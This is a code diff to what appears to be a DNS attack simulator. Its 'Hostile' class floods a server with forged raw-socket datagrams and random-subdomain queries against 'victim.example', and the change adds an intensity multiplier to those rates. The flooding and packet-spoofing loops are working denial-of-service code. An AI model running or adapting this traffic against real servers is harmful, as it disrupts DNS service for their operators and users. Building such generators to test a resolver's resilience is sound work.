@@ -38,8 +38,10 @@ _KNOWN: Final = 300
 class Hostile:
     """One attacker's sockets and random choices."""
 
-    def __init__(self, server: str, addresses: Sequence[str], seed: int) -> None:
+    def __init__(self, server: str, addresses: Sequence[str], seed: int, intensity: float) -> None:
         self.done: Counter[str] = Counter()
+        self._slice = max(1, round(_SLICE * intensity))
+        self._names = max(1, round(RANDOM_NAMES / 100 * intensity))
         self._server = ipaddress.IPv6Address(server)
         self._random = Random(seed)  # noqa: S311 - the same each time
         self._raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
@@ -57,7 +59,7 @@ class Hostile:
     def flood(self) -> Iterator[None]:
         """Send a burst spread over a second: known names, some that nobody knows, junk. Yields between its slices."""
         for _ in range(FLOOD // _SLICE):
-            for _ in range(_SLICE):
+            for _ in range(self._slice):
                 with contextlib.suppress(OSError):
                     self._raw.sendto(self._forged(self._message()), (str(self._server), 0))
                     self.done["forged datagrams"] += 1
@@ -96,7 +98,7 @@ class Hostile:
     def random_names(self) -> Iterator[None]:
         """Ask for names below the victim's domain at a steady rate. Yields between slices."""
         for _ in range(int(RANDOM_NAMES_LAST * 100)):
-            for _ in range(RANDOM_NAMES // 100):
+            for _ in range(self._names):
                 with contextlib.suppress(OSError):
                     query = self._query(f"x{self._random.getrandbits(48):x}.victim.example.")
                     self._random.choice(self._own).sendto(query, (str(self._server), 53))
@@ -109,10 +111,11 @@ def main() -> None:
     parser = argparse.ArgumentParser()
     parser.add_argument("--seed", type=int, required=True)
     parser.add_argument("--seconds", type=float, required=True)
+    parser.add_argument("--intensity", type=float, default=1.0, help="what to multiply all rates by")
     parser.add_argument("server")
     parser.add_argument("addresses", nargs="+")
     options = parser.parse_args()
-    hostile = Hostile(options.server, options.addresses, options.seed)
+    hostile = Hostile(options.server, options.addresses, options.seed, options.intensity)
     now = time.monotonic()
     end = now + options.seconds
     due = {hostile.flood: now + FLOOD_EACH / 2, hostile.random_names: now + 3.0}
